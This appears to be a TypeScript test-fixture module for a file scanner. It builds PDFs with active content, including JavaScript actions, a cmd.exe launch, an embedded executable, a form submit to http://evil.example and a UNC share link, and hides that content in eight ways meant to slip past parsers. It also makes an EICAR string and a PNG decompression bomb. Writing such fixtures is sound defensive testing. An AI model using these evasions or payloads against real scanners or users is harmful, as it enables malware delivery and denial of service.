import { crc32, deflateSync } from "node:zlib";
import sharp from "sharp";

const latin = (text: string): Buffer => Buffer.from(text, "latin1");

/** A PDF of one empty page with `more` among its objects, and `after` behind its end. */
export function pdf(more: string | Buffer = "", after: string | Buffer = ""): Buffer {
  const parts = [
    "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n",
    more,
    "trailer\n<< /Root 1 0 R >>\nstartxref\n9\n%%EOF\n",
    after,
  ];
  return Buffer.concat(parts.map((part) => (typeof part === "string" ? latin(part) : part)));
}

export const stream = (dictionary: string, content: Buffer): Buffer =>
  Buffer.concat([latin(`7 0 obj\n<< ${dictionary} >>\nstream\r\n`), content, latin("\nendstream\nendobj\n")]);

export const ascii85 = (bytes: Buffer): Buffer => {
  const padded = Buffer.concat([bytes, Buffer.alloc((4 - (bytes.length % 4)) % 4)]);
  let text = "";
  for (let i = 0; i < padded.length; i += 4) {
    let word = padded.readUInt32BE(i);
    let digits = "";
    for (let j = 0; j < 5; j += 1) {
      digits = String.fromCharCode(33 + (word % 85)) + digits;
      word = Math.floor(word / 85);
    }
    text += digits;
  }
  return latin(`${text.slice(0, text.length - (padded.length - bytes.length))}~>`);
};

/** What acts, as it stands in a dictionary. */
export const ACTIONS = [
  "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>",
  "/AA << /O << /S /Launch /F (cmd.exe) >> >>",
  "/Names << /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >>",
  "/Type /Filespec /EF << /F 9 0 R >> /Subtype /EmbeddedFile",
  "/Subtype /FileAttachment /FS 9 0 R",
  "/Subtype /RichMedia",
  "/A << /S /Rendition /JS (x) >>",
  "/A << /S /SubmitForm /F (http://evil.example) >>",
  "/A << /S /GoToR /F (\\\\\\\\evil\\\\share) >>",
  "/AcroForm << /XFA 9 0 R >>",
] as const;

/** Ways to hide it. */
export const HIDINGS: Readonly<Record<string, (action: string) => Buffer>> = {
  "in the open": (action) => pdf(`3 0 obj\n<< ${action} >>\nendobj\n`),
  "with names written in codes": (action) =>
    pdf(
      `3 0 obj\n<< ${action.replace(/\/([A-Z])(\w)/g, (_, a, b) => `/${a}#${b.charCodeAt(0).toString(16)}`)} >>\nendobj\n`,
    ),
  "in a packed stream of objects": (action) =>
    pdf(stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", deflateSync(`3 0 << ${action} >>`))),
  "in one that is packed twice": (action) =>
    pdf(
      stream(
        "/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]",
        deflateSync(deflateSync(`3 0 << ${action} >>`)),
      ),
    ),
  "in one written in letters": (action) =>
    pdf(
      stream(
        "/Type /ObjStm /N 1 /First 4 /Filter [/ASCII85Decode /FlateDecode]",
        ascii85(deflateSync(`3 0 << ${action} >>`)),
      ),
    ),
  "in a stream that does not say that it is packed": (action) =>
    pdf(stream("/N 1 /First 4 /Filter 9 0 R", deflateSync(`3 0 << ${action} >>`))),
  "in one that is cut off": (action) =>
    pdf(stream("/N 1 /First 4 /Filter /FlateDecode", deflateSync(`3 0 << ${action} >>`.padEnd(9000)).subarray(0, -9))),
  "in a later version of the document": (action) =>
    pdf("", `1 0 obj\n<< /Type /Catalog ${action} >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`),
};

/** A ZIP file of nothing but its end, as Java and Windows look for it. */
export const ARCHIVE = Buffer.concat([latin("PK\u0005\u0006"), Buffer.alloc(18)]);

export const EICAR = latin("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*");

/** A picture of noise, which packs badly; it says where it was taken. */
export const photo = (type: "jpeg" | "png", width = 64, height = 48): Promise<Buffer> =>
  sharp({
    create: { width, height, channels: 3, background: "#888", noise: { type: "gaussian", mean: 128, sigma: 30 } },
  })
    .withExif({ IFD3: { GPSLatitudeRef: "N", GPSLatitude: "31/1 14/1 0/1" } })
    .toFormat(type)
    .toBuffer();

/** A PNG that says to be so large, in a few bytes. */
export function flood(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([latin(type), data]);
    const framed = Buffer.alloc(body.length + 8);
    framed.writeUInt32BE(data.length, 0);
    body.copy(framed, 4);
    framed.writeUInt32BE(crc32(body), body.length + 4);
    return framed;
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([1, 0, 0, 0, 0], 8);
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  const data = deflateSync(Buffer.alloc(1_000_000));
  return Buffer.concat([signature, chunk("IHDR", header), chunk("IDAT", data), chunk("IEND", Buffer.alloc(0))]);
}
